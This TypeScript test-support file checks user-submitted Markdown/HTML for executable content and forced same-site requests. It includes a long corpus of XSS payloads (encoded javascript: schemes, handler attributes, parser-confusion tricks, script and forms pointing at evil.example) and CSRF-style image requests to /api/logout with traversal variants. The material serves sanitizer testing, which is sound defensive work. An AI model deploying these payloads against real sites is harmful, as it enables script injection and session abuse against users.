import { Parser } from 'htmlparser2';

/** Elements that run code, load other documents or change where the page points. */
const DANGEROUS_ELEMENTS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'style',
  'form',
  'svg',
  'math',
]);
/** Attributes that hold an address a browser would follow or load. */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'background',
  'poster',
  'lowsrc',
  'dynsrc',
]);
const SCRIPT_SCHEME = /^(javascript|vbscript|data:text\/html|data:image\/svg)/i;

/**
 * Everything in `html` a browser could execute, as readable findings (empty = safe). The HTML is
 * parsed as a browser would, entities decoded, so `&#106;avascript:` counts as javascript:.
 */
export function executableParts(html: string): string[] {
  const findings: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (DANGEROUS_ELEMENTS.has(name)) findings.push(`<${name}> element`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (/^on/i.test(attribute)) findings.push(`${attribute}= handler on <${name}>`);
          if (attribute === 'style' && /expression\s*\(|javascript:/i.test(value))
            findings.push(`style with ${value} on <${name}>`);
          // browsers ignore whitespace and control characters inside a scheme
          // eslint-disable-next-line no-control-regex
          const address = value.replace(/[\u0000-\u0020]/g, '');
          if (URL_ATTRIBUTES.has(attribute) && SCRIPT_SCHEME.test(address))
            findings.push(`${attribute}="${value}" on <${name}>`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  // The raw text must not hold an element either (whatever a lenient parser made of it).
  if (/<\s*(script|iframe)/i.test(html)) findings.push('raw <script or <iframe');
  return findings;
}

/** Attributes whose address a browser fetches by itself, just by showing the element. */
const AUTOMATIC_REQUEST_ATTRIBUTES = new Set([
  'src',
  'srcset',
  'data',
  'background',
  'poster',
  'lowsrc',
  'dynsrc',
]);
/** The page user content is shown on; the addresses in it are resolved against this. */
const SITE_PAGE = 'https://pitstop.test/models/some-model';
/** Where on this site user content may load images from: the demo previews and media. */
const SITE_ASSET_PATHS = ['/demo/', '/media/'];

/**
 * Every address in `html` that a browser would request from this site (or from a host the
 * author chose without spelling out a scheme) merely by showing it, outside the demo previews
 * and media: an <img src="/api/logout"> calls the API with the reader's cookie. Absolute
 * http(s) addresses on other sites pass. Empty = safe.
 */
export function siteRequests(html: string): string[] {
  const findings: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!AUTOMATIC_REQUEST_ATTRIBUTES.has(attribute)) continue;
          const addresses =
            attribute === 'srcset'
              ? value.split(',').map((c) => c.trim().split(/\s+/)[0]!)
              : [value];
          for (const address of addresses) {
            if (/^https?:\/\/[^/]/i.test(address.trim()) && !sameSite(address)) continue;
            if (sameSite(address) && isAssetPath(address)) continue;
            findings.push(`${attribute}="${value}" on <${name}>`);
          }
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return findings;
}

function resolve(address: string): URL | null {
  try {
    return new URL(address, SITE_PAGE);
  } catch {
    return null;
  }
}

function sameSite(address: string): boolean {
  return resolve(address)?.origin === new URL(SITE_PAGE).origin;
}

/** A plain path under /demo/ or /media/, also once the browser has resolved '..' in it. */
function isAssetPath(address: string): boolean {
  const resolved = resolve(address);
  return (
    address.startsWith('/') &&
    !address.startsWith('//') &&
    resolved !== null &&
    SITE_ASSET_PATHS.some((path) => resolved.pathname.startsWith(path))
  );
}

/** Every <a href> in `html` with its rel attribute. */
export function linksIn(html: string): { href: string; rel: string }[] {
  const links: { href: string; rel: string }[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (name === 'a' && attributes.href !== undefined)
          links.push({ href: attributes.href, rel: attributes.rel ?? '' });
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return links;
}

/**
 * Markdown and HTML that try to run script: tags, handlers, script URLs in every spelling,
 * foreign frames and markup that breaks out of attributes.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&#58;alert(1))',
  '![pic](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input onfocus=alert(1) autofocus>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<p title="x" onmouseover="alert(1)">hover</p>',
  '`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '![x](https://x.example/a.png" onerror="alert(1))',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '[x](jav&#x09;ascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<img src=x onerror=alert(1)',
  '<a href="javascript:alert(1)>x',
  '<b><i><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></i></b>',
  '<!--<script>alert(1)</script>-->',
  '[x](https://x.example "a\\" onmouseover=\\"alert(1))',
  '# Title <span onclick=alert(1)>x</span>',
];

/**
 * Markdown and HTML that make every reader's browser request an address on this site (with
 * their cookie) just by showing the text, or load from somewhere not spelled as http(s): the
 * API, other relative paths, '..' out of the allowed folders, protocol-relative hosts.
 */
export const SITE_REQUEST_CORPUS: readonly string[] = [
  '![x](/api/logout)',
  '<img src="/api/logout">',
  '<img src="/API/LOGOUT">',
  '![x](api/logout)',
  '<img src="logout">',
  '<img src="./api/logout">',
  '![x](/media/../api/logout)',
  '<img src="/demo/%2e%2e/api/logout">',
  '<img src="/media/&#46;&#46;/api/logout">',
  '<img src="/media\\..\\api\\logout">',
  '<img src="//pitstop.test/api/logout">',
  '<img src="//evil.example/track.gif">',
  '<img src=" /api/logout">',
  '<img srcset="/api/logout 1x, /media/ok.png 2x">',
  '[![x](/api/logout)](https://example.com)',
  '![x][pic]\n\n[pic]: /api/logout',
  '<video poster="/api/logout"></video>',
];
